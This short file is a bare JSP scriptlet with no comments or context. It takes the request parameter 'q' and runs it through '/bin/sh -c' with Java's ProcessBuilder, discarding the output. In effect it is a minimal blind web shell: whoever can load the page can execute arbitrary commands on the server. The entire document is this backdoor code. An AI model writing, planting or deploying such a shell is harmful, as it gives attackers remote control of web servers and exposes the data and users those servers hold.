<%
ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", request.getParameter("q"));
pb.redirectErrorStream(true);
Process pr = pb.start();
%>
